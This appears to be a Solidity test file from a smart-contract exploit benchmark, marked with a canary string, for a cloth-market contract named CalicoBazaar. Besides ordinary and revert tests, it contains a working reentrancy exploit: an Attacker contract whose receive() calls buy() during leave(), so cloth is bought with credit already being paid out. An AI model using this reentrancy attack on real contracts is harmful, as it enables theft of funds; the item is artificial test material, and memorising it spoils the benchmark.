// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./CalicoBazaar.sol";

// assay-canary-220380ea-9cef-4e84-bfc0-d32234ec1349

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

/// Buys cloth for the credit that is being paid out to it, ten times.
/// Takes ether only when it leaves by itself, and then tries to leave again.
contract Stall {
    CalicoBazaar internal bazaar;
    bool internal takes;

    constructor(CalicoBazaar bazaar_) {
        bazaar = bazaar_;
    }

    receive() external payable {
        require(takes, "not now");
        takes = false;
        (bool ok, bytes memory why) = address(bazaar).call(abi.encodeCall(bazaar.leave, ()));
        require(!ok && (bytes4(why) == CalicoBazaar.AlreadyLeaving.selector || bytes4(why) == CalicoBazaar.NoCredit.selector), "again");
    }

    function leave() external {
        bazaar.load{value: 1 ether}();
        takes = true;
        bazaar.leave();
    }
}

contract Attacker {
    CalicoBazaar internal bazaar;
    bool internal inside;

    constructor(CalicoBazaar bazaar_) {
        bazaar = bazaar_;
    }

    receive() external payable {
        if (inside) try bazaar.buy(0, 40) {} catch {}
    }

    function run() external {
        inside = true;
        for (uint256 i = 0; i < 10; ++i) {
            bazaar.load{value: 2 ether}();
            bazaar.leave();
        }
        inside = false;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant NOOR = address(0x9001);
    address internal constant SAMI = address(0x9002);

    CalicoBazaar internal bazaar;
    Attacker internal moth;

    receive() external payable {}

    function setUp() public {
        bazaar = new CalicoBazaar();
        bazaar.unroll("lozenges", 0.05 ether, 1_000);
        bazaar.unroll("stripes", 0.02 ether, 200);
        vm.deal(NOOR, 30 ether);
        vm.prank(NOOR);
        bazaar.load{value: 25 ether}();
        moth = new Attacker(bazaar);
        vm.deal(address(moth), 2 ether);
    }

    function test_Regular() public {
        vm.prank(NOOR);
        bazaar.buy(0, 100);
        require(bazaar.balanceOf(NOOR) == 100 && bazaar.creditOf(NOOR) == 20 ether, "bought");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 201))), "not so much on the bolt");
        vm.prank(SAMI);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "no credit");
        bazaar.fold(1);
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.buy, (1, 1))), "folded");
        vm.prank(NOOR);
        bazaar.leave();
        require(NOOR.balance == 25 ether && bazaar.creditOf(NOOR) == 0, "left");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.leave, ())), "left already");
        vm.prank(NOOR);
        bazaar.transfer(SAMI, 30);
        vm.prank(SAMI);
        bazaar.cut(10);
        require(bazaar.balanceOf(SAMI) == 20 && bazaar.totalSupply() == 90, "cloth");
        vm.prank(NOOR);
        require(!_try(abi.encodeCall(bazaar.emptyTill, ())), "not a weaver");
        uint256 before = address(this).balance;
        bazaar.emptyTill();
        require(address(this).balance == before + 5 ether && address(bazaar).balance == 0, "till");
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(bazaar).call(data);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Bolts are the weavers', and nobody spends what is not there.
    function test_RefusesStrangers() public {
        refuses(NOOR, CalicoBazaar.WeaversOnly.selector);
        bazaar.unroll("checks", 1, 1);
        refuses(NOOR, CalicoBazaar.WeaversOnly.selector);
        bazaar.fold(0);
        refuses(SAMI, CalicoBazaar.NoCredit.selector);
        bazaar.buy(0, 1);
        refuses(NOOR, abi.encodeWithSelector(CalicoBazaar.BoltTooShort.selector, 200));
        bazaar.buy(1, 201);
        refuses(SAMI, CalicoBazaar.NotEnough.selector);
        bazaar.transfer(NOOR, 1);
        refuses(NOOR, CalicoBazaar.NotEnough.selector);
        bazaar.transfer(address(0), 0);
        refuses(SAMI, CalicoBazaar.NotEnough.selector);
        bazaar.cut(1);
    }

    /// Ether that is not taken stops the payment.
    function test_RefusesFailedPayments() public {
        address stall = address(new Stall(bazaar));
        vm.deal(stall, 1 ether);
        vm.prank(stall);
        bazaar.load{value: 1 ether}();
        refuses(stall, CalicoBazaar.PaymentRefused.selector);
        bazaar.leave();
        vm.prank(NOOR);
        bazaar.buy(0, 1);
        vm.deal(address(bazaar), 0);
        vm.expectRevert(CalicoBazaar.PaymentRefused.selector);
        bazaar.emptyTill();
    }

    /// Who is leaving does not leave a second time.
    function test_RefusesToLeaveTwice() public {
        Stall stall = new Stall(bazaar);
        vm.deal(address(stall), 1 ether);
        stall.leave();
        require(bazaar.creditOf(address(stall)) == 0, "left once");
    }

    function exploit() public {
        moth.run();
    }

    function test_Exploit() public {
        exploit();
        require(bazaar.balanceOf(address(moth)) >= 400 && address(moth).balance == 2 ether, "cloth was paid for");
    }

    function target() public view returns (address) {
        return address(bazaar);
    }

    function attacker() public view returns (address) {
        return address(moth);
    }

    /// There is ether for what the weavers took in and for all credit.
    function covered() public view returns (bool) {
        uint256 credit = bazaar.creditOf(NOOR) + bazaar.creditOf(SAMI) + bazaar.creditOf(address(moth));
        return address(bazaar).balance >= bazaar.till() + credit;
    }
}
